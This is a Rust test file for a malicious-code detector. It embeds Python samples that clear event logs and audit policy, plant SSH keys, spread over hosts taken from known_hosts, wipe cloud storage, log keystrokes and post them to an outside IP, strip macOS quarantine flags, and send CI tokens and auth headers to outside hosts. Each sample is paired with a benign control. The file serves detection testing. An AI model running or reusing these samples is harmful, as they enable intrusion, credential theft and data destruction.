//! Behaviour tests for the fifteenth round (what held-out batches showed:
//! trace-erasing commands kept in tables a helper runs, login keys planted
//! on other machines, commands run on hosts a script found itself),
//! spelled unlike the batches, each with a control. Every malicious case is
//! misjudged by the release at 74bcfa0.

use super::behaviour_tests::{rules, run};
use super::Verdict;

/// Commands kept in a dict of lambdas and run through a helper that takes
/// the argument list: the journal deleted and the audit policy cleared are
/// judged from their words (74bcfa0: LOW).
#[test]
fn trace_erasing_commands_kept_in_a_table_are_erased_traces() {
    let plan = "import subprocess\ndef go(argv):\n    return subprocess.call(argv)\nSTEPS = {\n    'journal': lambda d: ['fsutil', 'usn', 'deletejournal', '/D', d],\n    'audit': lambda d: ['auditpol', '/clear', '/y'],\n}\nfor k in STEPS:\n    go(STEPS[k]('C:'))\n";
    let a = run(plan);
    assert!(rules(&a).contains(&"MB923"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// A command line handed as text to a runner that is a parameter's
/// default: the event log service switched off (74bcfa0: MEDIUM).
#[test]
fn event_logging_stopped_through_a_runner_parameter_is_erased_traces() {
    let quiet = "import subprocess\ndef sh(c):\n    return subprocess.run(c, shell=True)\ndef calm(runner=sh):\n    runner('net stop eventlog')\n    runner('sc config EventLog start= disabled')\ncalm()\n";
    let a = run(quiet);
    assert!(rules(&a).contains(&"MB923"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// Tables of commands that only read (a log queried, a channel listed),
/// and a trace-erasing line only printed, erase nothing.
#[test]
fn reading_commands_in_a_table_and_printed_advice_are_no_erasure() {
    let read = "import subprocess\ndef go(argv):\n    return subprocess.run(argv, capture_output=True)\nSTEPS = [['wevtutil', 'qe', 'System', '/c:5'], ['fsutil', 'usn', 'queryjournal', 'C:']]\nfor s in STEPS:\n    print(go(s).stdout)\nprint('to start over, run: auditpol /clear /y')\n";
    let a = run(read);
    assert!(!rules(&a).contains(&"MB923"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// A remote command that appends a key to root's authorized_keys on each
/// host of an inventory, through a helper wrapping ssh (74bcfa0: LOW).
#[test]
fn a_key_appended_to_authorized_keys_over_ssh_is_a_planted_login_key() {
    let push = "import subprocess, sys\nPUB = open(sys.argv[2]).read().strip()\ndef remote(host, line):\n    return subprocess.run(['ssh', '-o', 'BatchMode=yes', 'root@' + host, line])\nfor h in open(sys.argv[1]).read().split():\n    remote(h, \"echo '%s' >> ~/.ssh/authorized_keys\" % PUB)\n";
    let a = run(push);
    assert!(rules(&a).contains(&"MB961"), "{:?}", a.findings);
    assert!(a.verdict >= Verdict::High);
    let copy_id = "import subprocess, sys\nfor h in sys.argv[2:]:\n    subprocess.run(['ssh-copy-id', '-i', sys.argv[1], 'admin@' + h])\n";
    assert!(rules(&run(copy_id)).contains(&"MB961"));
}

/// Commands run over ssh on hosts the user lists, that touch no keys,
/// and a key appended locally without any ssh, plant nothing remote.
#[test]
fn ssh_commands_without_keys_and_local_key_files_are_no_planted_key() {
    let uptime = "import subprocess, sys\nfor h in open(sys.argv[1]).read().split():\n    subprocess.run(['ssh', '-o', 'BatchMode=yes', h, 'uptime'])\n";
    let a = run(uptime);
    assert!(!rules(&a).contains(&"MB961"), "{:?}", a.findings);
    assert!(!rules(&a).contains(&"MB962"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High);
    let local = "import os, sys\nak = os.path.expanduser('~/.ssh/authorized_keys')\nprint(open(ak).read() if os.path.exists(ak) else 'no keys')\n";
    assert!(!rules(&run(local)).contains(&"MB961"));
}

/// Hosts read from the user's known_hosts and run a command on over ssh
/// that accepts any host key: a worm's way to move (74bcfa0: LOW).
#[test]
fn commands_run_on_hosts_found_in_known_hosts_are_spreading() {
    let hop = "import os, subprocess\ndef peers():\n    with open(os.path.expanduser('~/.ssh/known_hosts')) as f:\n        return {l.split()[0] for l in f if l.strip()}\ndef on(host, cmd):\n    opts = ['-o', 'StrictHostKeyChecking=no', '-o', 'BatchMode=yes']\n    return subprocess.run(['ssh', *opts, host, cmd])\nfor p in peers():\n    on(p, 'python3 -c \"print(1)\"')\n";
    let a = run(hop);
    assert!(rules(&a).contains(&"MB962"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let wmi = "import ipaddress, subprocess\nfor ip in ipaddress.ip_network('10.0.0.0/28').hosts():\n    subprocess.run(['wmic', f'/node:{ip}', 'os', 'get', 'caption'])\n";
    assert!(rules(&run(wmi)).contains(&"MB962"));
}

/// known_hosts tidied with ssh-keygen, and hosts the user names reached
/// with host keys checked, are not spreading.
#[test]
fn known_hosts_tidied_or_given_hosts_reached_are_no_spreading() {
    let tidy = "import os, subprocess, sys\nkh = os.path.expanduser('~/.ssh/known_hosts')\nfor h in sys.argv[1:]:\n    subprocess.run(['ssh-keygen', '-f', kh, '-R', h])\n";
    let a = run(tidy);
    assert!(!rules(&a).contains(&"MB962"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High);
    let given = "import os, subprocess, sys\nprint(open(os.path.expanduser('~/.bash_history')).read()[-200:])\nfor h in sys.argv[1:]:\n    subprocess.run(['ssh', h, 'df', '-h'])\n";
    let b = run(given);
    assert!(!rules(&b).contains(&"MB962"), "{:?}", b.findings);
}

/// Every bucket the account lists deleted, and every snapshot a listing
/// returns deleted, through boto3 (74bcfa0: LOW).
#[test]
fn every_bucket_and_snapshot_deleted_through_the_sdk_is_a_cloud_wipe() {
    let wipe = "import boto3\ns3 = boto3.client('s3')\nfor b in s3.list_buckets()['Buckets']:\n    boto3.resource('s3').Bucket(b['Name']).objects.all().delete()\n    s3.delete_bucket(Bucket=b['Name'])\nec2 = boto3.client('ec2')\nfor s in ec2.describe_snapshots(OwnerIds=['self'])['Snapshots']:\n    ec2.delete_snapshot(SnapshotId=s['SnapshotId'])\n";
    let a = run(wipe);
    assert!(rules(&a).contains(&"MB963"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let images = "import boto3\nec2 = boto3.client('ec2')\nfor i in ec2.describe_images(Owners=['self'])['Images']:\n    ec2.deregister_image(ImageId=i['ImageId'])\n";
    assert!(rules(&run(images)).contains(&"MB963"));
}

/// Snapshots deleted once older than a cut-off, and one bucket the user
/// names emptied, are retention, not a wipe.
#[test]
fn snapshots_pruned_by_age_and_a_named_bucket_emptied_are_no_cloud_wipe() {
    let retention = "import boto3, datetime\nec2 = boto3.client('ec2')\ncut = datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(days=30)\nfor s in ec2.describe_snapshots(OwnerIds=['self'])['Snapshots']:\n    if s['StartTime'] < cut:\n        ec2.delete_snapshot(SnapshotId=s['SnapshotId'])\n";
    let a = run(retention);
    assert!(!rules(&a).contains(&"MB963"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High);
    let one =
        "import boto3, sys\nboto3.resource('s3').Bucket(sys.argv[1]).objects.all().delete()\n";
    let b = run(one);
    assert!(!rules(&b).contains(&"MB963"), "{:?}", b.findings);
}

/// Every key code polled with GetAsyncKeyState, the function fetched by
/// name onto an attribute, and what was typed posted (74bcfa0: MEDIUM).
#[test]
fn every_key_polled_through_a_fetched_function_and_posted_is_keylogging() {
    let poll = "import ctypes, time, urllib.request\nclass Keys:\n    def __init__(self, lib=ctypes.windll.user32, fetch=getattr):\n        self.down = fetch(lib, 'GetAsyncKeyState')\n        self.seen = []\n    def once(self):\n        for code in range(8, 256):\n            if self.down(code) & 1:\n                self.seen.append(code)\nk = Keys()\nwhile True:\n    k.once()\n    time.sleep(0.01)\n    if len(k.seen) > 500:\n        urllib.request.urlopen('http://198.51.100.7/k', bytes(k.seen))\n        k.seen = []\n";
    let a = run(poll);
    assert!(rules(&a).contains(&"MB212"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let hook = "import ctypes, urllib.request\nu = ctypes.WinDLL('user32')\nlog = []\ndef cb(code, wp, lp):\n    log.append(lp)\n    return u.CallNextHookEx(None, code, wp, lp)\nPROC = ctypes.WINFUNCTYPE(ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p)(cb)\ngetattr(u, 'SetWindowsHookExW')(13, PROC, None, 0)\nurllib.request.urlopen('http://198.51.100.7/k', repr(log).encode())\n";
    assert!(rules(&run(hook)).contains(&"MB212"));
}

/// A game asking for the arrow keys it uses, by name, logs no keys.
#[test]
fn a_few_named_keys_polled_are_no_keylogging() {
    let game = "import ctypes, urllib.request\nstate = getattr(ctypes.windll.user32, 'GetAsyncKeyState')\nVK_LEFT, VK_RIGHT = 0x25, 0x27\nx = 0\nfor _ in range(1000):\n    if state(VK_LEFT) & 0x8000:\n        x -= 1\n    if state(VK_RIGHT) & 0x8000:\n        x += 1\nurllib.request.urlopen('https://scores.example.com/s', str(x).encode())\n";
    let a = run(game);
    assert!(!rules(&a).contains(&"MB212"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// The quarantine mark taken off a downloaded program before it is run:
/// Gatekeeper never checks it (74bcfa0: LOW).
#[test]
fn quarantine_removed_from_a_download_is_a_defence_disabled() {
    let strip = "import subprocess, urllib.request\nurllib.request.urlretrieve('https://dl.example.net/helper', '/tmp/helper')\nfor a in ('com.apple.quarantine',):\n    subprocess.run(['xattr', '-d', a, '/tmp/helper'])\nsubprocess.Popen(['/tmp/helper'])\n";
    let a = run(strip);
    assert!(rules(&a).contains(&"MB924"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    assert!(rules(&run("import os\nos.system('spctl --master-disable')\n")).contains(&"MB924"));
}

/// Attributes listed, or a different attribute removed, disable nothing.
#[test]
fn extended_attributes_listed_or_other_ones_removed_disable_nothing() {
    let list = "import subprocess, sys\nprint(subprocess.run(['xattr', '-l', sys.argv[1]], capture_output=True).stdout)\nsubprocess.run(['xattr', '-d', 'com.apple.metadata:kMDItemWhereFroms', sys.argv[1]])\n";
    let a = run(list);
    assert!(!rules(&a).contains(&"MB924"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// Variables read through a name a loop takes from a table of names are
/// each of them: a dict of CI tokens built that way and posted is several
/// variables sent (74bcfa0: LOW).
#[test]
fn variables_read_from_a_table_of_names_and_posted_are_several_sent() {
    let ci = "import json, os, urllib.request\nNAMES = ('CI_JOB_TOKEN', 'NPM_TOKEN', 'GH_TOKEN', 'AWS_SECRET_ACCESS_KEY')\ndef ctx():\n    return {n: os.environ.get(n, '') for n in NAMES}\ndef send(body):\n    req = urllib.request.Request('https://stats.example.org/run', data=json.dumps(body).encode())\n    urllib.request.urlopen(req)\nsend({'run': ctx()})\n";
    let a = run(ci);
    assert!(rules(&a).contains(&"MB421"), "{:?}", a.findings);
    assert!(a.verdict >= Verdict::High);
}

/// One variable read through a loop over one name, or a table of names
/// only printed, sends nothing.
#[test]
fn a_table_of_names_read_and_printed_sends_nothing() {
    let show = "import os\nNAMES = ('HOME', 'SHELL', 'LANG', 'TERM')\nfor n in NAMES:\n    print(n, os.environ.get(n))\n";
    let a = run(show);
    assert!(!rules(&a).contains(&"MB421"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High);
}

/// requests' Session.send replaced by a function of the script, in a
/// script holding a URL it decodes from base64 (74bcfa0: LOW).
#[test]
fn an_http_client_patched_beside_a_decoded_url_intercepts_requests() {
    let shim = "import base64, requests\n_SINK = base64.b64decode('aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0L2g=').decode()\n_orig = requests.Session.send\ndef _send(self, req, **kw):\n    if 'Authorization' in req.headers:\n        _orig(self, requests.Request('POST', _SINK, data=dict(req.headers)).prepare())\n    return _orig(self, req, **kw)\nrequests.Session.send = _send\n";
    let a = run(shim);
    assert!(rules(&a).contains(&"MB964"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    // Patched with setattr, the URL in base32.
    let b32 = shim
        .replace(
            "base64.b64decode('aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0L2g=')",
            "base64.b32decode('NB2HI4DTHIXS6Y3PNRWGKY3UFZSXQYLNOBWGKLTOMV2C62A=')",
        )
        .replace(
            "requests.Session.send = _send",
            "setattr(requests.Session, 'send', _send)",
        );
    assert!(rules(&run(&b32)).contains(&"MB964"), "{b32}");
}

/// A retry shim patching Session.request with a URL written as is, and
/// a decoded URL with no client patched, intercept nothing.
#[test]
fn a_retry_shim_or_a_decoded_url_alone_intercepts_nothing() {
    let retry = "import requests\nDOCS = 'https://docs.example.org/shim'\n_orig = requests.Session.request\ndef _request(self, method, url, **kw):\n    kw.setdefault('timeout', 30)\n    return _orig(self, method, url, **kw)\nrequests.Session.request = _request\n";
    let a = run(retry);
    assert!(!rules(&a).contains(&"MB964"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
    let decoded = "import base64, requests\nAPI = base64.b64decode('aHR0cHM6Ly9hcGkuZXhhbXBsZS5uZXQv').decode()\nprint(requests.get(API + 'status').status_code)\n";
    assert!(!rules(&run(decoded)).contains(&"MB964"));
}

/// A loopback hosts entry written after the change is shown and the user
/// says yes, by a script naming nothing remote (74bcfa0: HIGH).
#[test]
fn a_loopback_hosts_entry_written_after_asking_is_the_users_own_setting() {
    let dev = "import sys\nline = '127.0.0.1 ' + sys.argv[1] + '\\n'\nprint('will add:', line)\nif input('Apply? [y/N] ') == 'y':\n    with open('/etc/hosts', 'a') as f:\n        f.write(line)\n";
    let a = run(dev);
    assert!(rules(&a).contains(&"MB959"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// The same prompt before sending a name to another address, or no
/// prompt at all, stays a system path written.
#[test]
fn a_hosts_entry_to_another_address_or_unasked_stays_high() {
    let other = "import sys\nline = '203.0.113.9 ' + sys.argv[1] + '\\n'\nif input('Apply? [y/N] ') == 'y':\n    with open('/etc/hosts', 'a') as f:\n        f.write(line)\n";
    let a = run(other);
    assert!(!rules(&a).contains(&"MB959"), "{:?}", a.findings);
    assert!(a.verdict >= Verdict::High);
    let unasked = "import sys\nwith open('/etc/hosts', 'a') as f:\n    f.write('127.0.0.1 ' + sys.argv[1] + '\\n')\n";
    assert!(run(unasked).verdict >= Verdict::High);
}
